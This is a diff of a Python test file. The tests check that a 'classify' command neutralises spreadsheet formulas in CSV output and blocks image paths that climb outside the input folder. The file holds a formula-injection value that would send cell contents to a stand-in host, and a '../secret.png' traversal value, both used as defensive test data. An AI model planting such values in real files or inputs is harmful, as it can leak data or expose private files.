@@ -127,3 +127,17 @@ def test_classify_csv_neutralises_cells_and_marks_truncation(tmp_path):
     rows = list(csv.DictReader(dst.read_text(encoding="utf-8-sig").splitlines()))
     assert rows[0]["source"] == '\'=HYPERLINK("http://x/?"&A1,"Click")'
     assert [r["truncated"] for r in rows] == ["False", "True"]
+
+
+def test_classify_command_confines_images_unless_the_flag_allows(tmp_path):
+    (tmp_path / "in").mkdir()
+    (tmp_path / "secret.png").write_bytes(b"not an image")
+    src = tmp_path / "in" / "ads.jsonl"
+    src.write_text(json.dumps({"id": 1, "image": "../secret.png"}) + "\n", encoding="utf-8")
+    out = tmp_path / "out.jsonl"
+    r = run("classify", "--input", str(src), "--output", str(out), "--quiet")
+    assert r.returncode == 0, r.stderr
+    assert "outside the input file's folder" in json.loads(out.read_text(encoding="utf-8"))["error"]
+    r = run("classify", "--input", str(src), "--output", str(out), "--quiet", "--allow-images-anywhere")
+    assert r.returncode == 0, r.stderr
+    assert "outside" not in json.loads(out.read_text(encoding="utf-8"))["error"]  # read (here: not an image)
